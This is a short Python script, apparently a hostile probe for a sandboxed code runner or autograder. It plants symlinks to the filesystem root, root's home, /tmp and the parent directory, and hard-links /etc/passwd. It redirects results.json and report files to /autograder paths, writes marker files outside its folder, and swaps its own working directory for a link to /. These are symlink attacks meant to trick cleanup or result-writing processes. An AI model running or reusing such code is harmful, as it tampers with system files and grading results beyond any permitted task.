"""Leaves links where whoever tidies up, or writes results, may follow them; and swaps its own folder for one."""

import os

from nothing import *

box = os.getcwd()


def attempt(act, *arguments):
    try:
        act(*arguments)
    except OSError as error:
        print(error)


os.makedirs("deep/er", exist_ok=True)
for place, aim in {"root": "/", "home": os.path.expanduser("~root"), "tmp": "/tmp", "loop": "loop", "up": ".."}.items():
    attempt(os.symlink, aim, place)
    attempt(os.symlink, aim, f"deep/er/{place}")
    attempt(os.link, "/etc/passwd", f"{place}-hard")
for place in ("results.json", "results", "report"):
    attempt(os.symlink, f"/autograder/{place}", place)
    attempt(os.symlink, "/tmp/gallery-was-here", f"../{place}")
attempt(open, "tmp/gallery-was-here", "w")
attempt(open, "up/gallery-was-here", "w")
attempt(os.rename, box, box + "-gallery-was-here")
attempt(os.rmdir, box)
attempt(os.symlink, "/", box)
